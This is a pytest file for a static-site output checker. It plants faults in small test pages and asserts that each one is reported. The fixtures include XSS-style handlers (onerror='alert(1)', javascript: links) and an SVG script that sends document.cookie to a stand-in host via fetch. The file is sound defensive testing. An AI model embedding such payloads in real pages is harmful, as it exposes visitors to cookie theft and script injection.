"""Nothing third-party, active or oversized is published (fasciasite.publishing.outputcheck), on the
real build and on small planted sites (no build needed: the check reads any static HTML)."""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT

from fasciasite.publishing import outputcheck

SITE_URL = "https://mysportinjury.github.io/fascia-back-pain/"
CONFIG = f"site_url: {SITE_URL}\nextra_javascript:\n  - javascripts/a11y.js\nextra:\n  output_limits:\n    image_max_bytes: 5000\n    image_max_side: 100\n"
THEME = ('<script>__md_scope=new URL("..",location)</script><script src="../assets/javascripts/bundle.js"></script>'
         '<script src="../javascripts/a11y.js"></script>')


def site(tmp_path: Path, body: str, *, head: str = "", files: dict | None = None) -> Path:
    """A one-page built site (page/index.html from docs/page.md) with the theme's scripts."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "mkdocs.yml").write_text(CONFIG, encoding="utf-8")
    (tmp_path / "docs").mkdir(exist_ok=True)
    (tmp_path / "docs" / "page.md").write_text(f"# Page\n\nIntro.\n\n{body}\n", encoding="utf-8")
    out = tmp_path / "site" / "page"
    out.mkdir(parents=True, exist_ok=True)
    (out / "index.html").write_text(f"<html><head>{head}</head><body><article>\n<p>Intro.</p>\n{body}\n</article>{THEME}</body></html>",
                                    encoding="utf-8")
    for name, data in (files or {}).items():
        for root in (tmp_path / "docs", tmp_path / "site"):
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_bytes(data if isinstance(data, bytes) else data.encode())
    return tmp_path


def problems(root: Path) -> list[str]:
    s = outputcheck.settings(root / "mkdocs.yml", root / "docs")
    return [str(f) for f in outputcheck.check_site(root / "site", s)]


def test_the_real_site_publishes_nothing_third_party_active_or_oversized(built_site):
    s = outputcheck.settings(ROOT / "mkdocs.yml", ROOT / "docs")
    assert [str(f) for f in outputcheck.check_site(built_site, s)] == []


BAD = [
    ("tag manager", '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
     "a <script> in an article loading https://www.googletagmanager.com/gtag/js?id=G-1 from www.googletagmanager.com"),
    ("inline script in an article", "<script>gtag('config', 'G-1');</script>", "a <script> in an article"),
    ("video iframe", '<iframe src="https://www.youtube.com/embed/x"></iframe>', "<iframe> embeds another page"),
    ("object", '<object data="https://example.org/x.swf"></object>', "<object> embeds"),
    ("embed", '<embed src="local.pdf">', "<embed> embeds"),
    ("hot-linked image", '<img alt="A roller" src="https://upload.wikimedia.org/roller.jpg">',
     "loads https://upload.wikimedia.org/roller.jpg from another host"),
    ("protocol-relative image", '<img alt="A roller" src="//cdn.example.org/roller.jpg">', "from another host (cdn.example.org)"),
    ("srcset from a CDN", '<img alt="A roller" src="a.png" srcset="a.png 1x, https://cdn.example.org/a2.png 2x">', "cdn.example.org"),
    ("video poster", '<video poster="https://example.org/p.jpg" src="v.mp4"></video>', "<video poster> loads"),
    ("onclick", '<p onclick="steal()">Tap</p>', "inline event handler onclick="),
    ("onerror on an image", '<img alt="x" src="a.png" onerror="alert(1)">', "inline event handler onerror="),
    ("javascript: link", '<a href="javascript:alert(1)">Tap</a>', "a javascript: URL in href="),
    ("style url from another host", '<p style="background:url(https://example.org/bg.png)">x</p>', "CSS loads https://example.org/bg.png"),
    ("style element import", "<style>@import 'https://fonts.example.org/f.css';</style>", "CSS loads https://fonts.example.org/f.css"),
    ("form posting away", '<form action="https://forms.example.org/s"><input name="q"></form>', "a form sends readers' input"),
    ("tel with (0)", '<a href="tel:+44 (0)161 496 0000">Call</a>', "drop the (0) after the country code"),
    ("tel with letters", '<a href="tel:0161-CLINIC">Call</a>', "is not a number a phone can dial"),
    ("empty mailto", '<a href="mailto:">Email us</a>', "mailto: link 'mailto:' has no valid e-mail address"),
    ("mailto with no domain", '<a href="mailto:bookings@">Email us</a>', "has no valid e-mail address"),
    ("http to own domain", f'<a href="{SITE_URL.replace("https", "http")}book/">Book</a>', "over plain http://"),
    ("inline colour", '<p style="color: #c00">Warning</p>', "inline CSS in an article"),
    ("a colour beside the site's own declaration", '<div style="--reference-list-height: 8rem; color: red">x</div>',
     "inline CSS in an article"),
    ("the site's declaration with another value", '<div style="--reference-list-height: url(x.png)">x</div>',
     "inline CSS in an article"),
    ("another custom property", '<div style="--accent: red">x</div>', "inline CSS in an article"),
]


@pytest.mark.parametrize("case", BAD, ids=[c[0] for c in BAD])
def test_each_planted_fault_is_named_with_the_source_file_and_line(tmp_path, case):
    found = problems(site(tmp_path, case[1]))
    assert any(case[2] in p for p in found), found
    assert any(p.startswith("docs/page.md:5:") for p in found), found  # the line the author wrote it on


GOOD = [
    ("a link to another site", '<a href="https://www.nhs.uk/conditions/back-pain/">NHS</a>'),
    ("local image", '<img alt="A roller" src="../assets/a.png">'),
    ("canonical and feed links to our own host", ""),
    ("UK and international tel:", '<a href="tel:+441614960000">Call</a> <a href="tel:0161-496-0000">Call</a> <a href="tel:999">999</a>'),
    ("mailto with a subject", '<a href="mailto:bookings@example.org?subject=Back%20pain">Email</a>'),
    ("https link to our own domain", f'<a href="{SITE_URL}book/">Book</a>'),
    ("an SVG namespace is not a request", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
    ("JSON-LD data naming schema.org", '<script type="application/ld+json">{"@context": "https://schema.org", "@type": "Article"}</script>'),
    ("the declarations the site writes itself", '<table><tr><td style="text-align: center">1</td></tr></table>'
     '<div class="footnote" style="--reference-list-height: 56rem"><ol><li>A</li></ol></div>'),
]


@pytest.mark.parametrize("case", GOOD, ids=[c[0] for c in GOOD])
def test_valid_output_passes(tmp_path, case):
    head = f'<link rel="canonical" href="{SITE_URL}page/"><link rel="alternate" href="{SITE_URL}feed_rss_created.xml">'
    assert problems(site(tmp_path, case[1], head=head)) == []


def test_a_script_that_is_not_the_theme_bundle_or_ours_fails_even_outside_articles(tmp_path):
    root = site(tmp_path, "")
    page = root / "site" / "page" / "index.html"
    page.write_text(page.read_text().replace("</body>", '<script src="../js/tracker.js"></script>'
                                             '<script>fetch("https://pixel.example.org/x")</script>'
                                             '<link rel="stylesheet" href="https://fonts.googleapis.com/css"></body>'))
    found = "\n".join(problems(root))
    assert "script ../js/tracker.js is neither the theme's bundle nor one of ours" in found
    assert "an inline script names another host (pixel.example.org)" in found
    assert "<link rel=stylesheet> loads https://fonts.googleapis.com/css" in found


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{}\n</svg>'


@pytest.mark.parametrize("inner,says", [
    ('<script>fetch("https://example.org/?c="+document.cookie)</script>', "<script> in an SVG"),
    ('<rect width="1" height="1" onload="alert(1)"/>', "event handler onload= in an SVG"),
    ('<image href="https://example.org/photo.jpg" width="9" height="9"/>', "refers to https://example.org/photo.jpg outside the SVG"),
    ('<use xlink:href="sprites.svg#icon"/>', "refers to sprites.svg#icon outside the SVG"),
    ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', "<foreignobject> in an SVG"),
    ("<style>@import url(https://fonts.example.org/f.css);</style>", "CSS in the SVG loads https://fonts.example.org/f.css"),
    ("<a href=\"javascript:alert(1)\"><text>x</text></a>", "refers to javascript:alert(1)"),
])
def test_an_svg_with_a_script_or_outside_reference_fails_with_its_line(tmp_path, inner, says):
    root = site(tmp_path, "", files={"assets/d.svg": SVG.format(inner)})
    found = problems(root)
    assert any(p.startswith("docs/assets/d.svg:2:") and says in p for p in found), found


def test_a_self_contained_svg_passes(tmp_path):
    inner = '<defs><path id="p" d="M0 0h9"/></defs><use xlink:href="#p"/><style>.a{fill:#000}</style><text>Fascia</text>'
    assert problems(site(tmp_path, "", files={"assets/d.svg": SVG.format(inner)})) == []


def test_a_malformed_svg_is_named_not_a_traceback(tmp_path):
    found = problems(site(tmp_path, "", files={"assets/d.svg": "<svg><g></svg>"}))
    assert any("docs/assets/d.svg:1: is not well-formed SVG" in p for p in found), found


def _png(width: int, height: int, noise: bool = False) -> bytes:
    import io
    import random

    from PIL import Image
    im = Image.new("RGB", (width, height), "white")
    if noise:
        im.putdata([(random.randrange(256), random.randrange(256), random.randrange(256)) for _ in range(width * height)])
    out = io.BytesIO()
    im.save(out, "PNG")
    return out.getvalue()


def test_an_image_over_the_budget_fails_with_the_command_that_shrinks_it_and_the_command_works(tmp_path):
    root = site(tmp_path, "", files={"assets/photo.png": _png(300, 200, noise=True)})
    found = problems(root)
    assert any(p.startswith("docs/assets/photo.png:1: image is") and "300x200 pixels, over the 100-pixel budget" in p
               and "bytes, over the 5,000-byte budget" in p and "python -m fasciasite.publishing.outputcheck --shrink docs/assets/photo.png" in p
               for p in found), found
    small = site(tmp_path / "b", "", files={"assets/photo.png": _png(300, 200)})
    result = subprocess.run([sys.executable, "-m", "fasciasite.publishing.outputcheck", "--config", "mkdocs.yml", "--shrink", "docs/assets/photo.png"],
                            cwd=small, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    from PIL import Image
    with Image.open(small / "docs" / "assets" / "photo.png") as im:
        assert max(im.size) <= 100


def test_an_image_within_the_budget_passes(tmp_path):
    assert problems(site(tmp_path, "", files={"assets/small.png": _png(80, 60)})) == []


def test_the_command_reports_and_exits_1_and_2_on_bad_usage(tmp_path):
    root = site(tmp_path, '<iframe src="https://www.youtube.com/embed/x"></iframe>')
    result = subprocess.run([sys.executable, "-m", "fasciasite.publishing.outputcheck", "site"], cwd=root, capture_output=True, text=True)
    assert result.returncode == 1 and "docs/page.md:5: <iframe>" in result.stdout, result.stdout
    missing = subprocess.run([sys.executable, "-m", "fasciasite.publishing.outputcheck", "nowhere"], cwd=root, capture_output=True, text=True)
    assert missing.returncode == 2 and "build the site first" in missing.stderr
